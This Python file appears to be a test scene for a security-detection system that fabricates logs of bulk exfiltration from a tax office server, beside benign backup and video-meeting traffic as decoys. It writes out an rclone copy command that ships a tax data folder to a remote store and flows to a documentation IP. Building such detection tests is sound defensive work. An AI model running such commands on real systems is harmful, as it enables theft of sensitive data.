"""A server of the tax office sends gigabytes to an address nobody knows, in the evening, in pieces."""

from datetime import timedelta

from sentinel.testing.city import windows
from sentinel.testing.city.firewalls import Flow, traffic
from sentinel.testing.city.town import BACKUP, PROXY, TAXES
from sentinel.testing.city.windows import SYSTEM
from sentinel.testing.scene import About, Scene

ABOUT = About("Exfiltration from the tax office over HTTPS", "critical", (18, 20), timedelta(hours=6))
_TAKER = "203.0.113.171"


def tell(scene: Scene) -> None:
    """Tell it, with a copy of the backup to the provider and a long video meeting beside it."""
    rng, thief = scene.rng, scene.someone("kasse-steuer")
    at = scene.begin
    scene.say(
        "somebody is at the server",
        windows.logon(at, TAXES.host, "svc-steuer", 10, thief.address),
        windows.process(
            at + timedelta(minutes=3),
            TAXES.host,
            "svc-steuer",
            "C:\\ProgramData\\rclone.exe",
            "rclone.exe copy D:\\Steuer ablage:s --transfers 8",
            f"{SYSTEM}cmd.exe",
        ),
    )
    for number in range(24):
        at = scene.after(minutes=6 + 9 * number, seconds=rng.uniform(0, 60))
        flow = Flow(
            TAXES.address,
            _TAKER,
            443,
            rng.randrange(250, 420) * 1_000_000,
            900_000,
            500,
            "server",
            "wan1",
            "Netherlands",
        )
        scene.say("pieces of 300 MB", traffic(at, flow, rng), decisive=number == 3)
    for number in range(10):
        flow = Flow(BACKUP.address, "198.51.100.60", 443, 900_000_000, 400_000, 400, "server")
        scene.twin("a copy of the backup", traffic(scene.after(minutes=20 * number), flow, rng))
    flow = Flow(PROXY.address, "198.51.100.19", 443, 700_000_000, 800_000_000, 5400)
    scene.twin("a long video meeting", traffic(scene.after(minutes=50), flow, rng))
